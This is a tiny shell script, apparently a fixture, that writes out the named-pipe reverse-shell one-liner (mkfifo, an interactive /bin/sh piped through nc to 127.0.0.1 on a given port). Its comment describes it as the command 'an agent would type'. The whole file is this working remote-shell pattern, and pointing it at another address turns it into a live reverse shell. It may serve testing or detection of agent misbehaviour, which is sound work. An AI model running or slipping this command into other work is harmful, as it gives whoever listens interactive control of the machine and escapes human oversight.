#!/bin/sh
# The named-pipe reverse shell as the one-liner an agent would type:
# fifo_oneliner.sh DIR PORT
/bin/sh -c "rm -f $1/f; mkfifo $1/f; cat $1/f | /bin/sh -i 2>&1 | nc 127.0.0.1 $2 > $1/f"
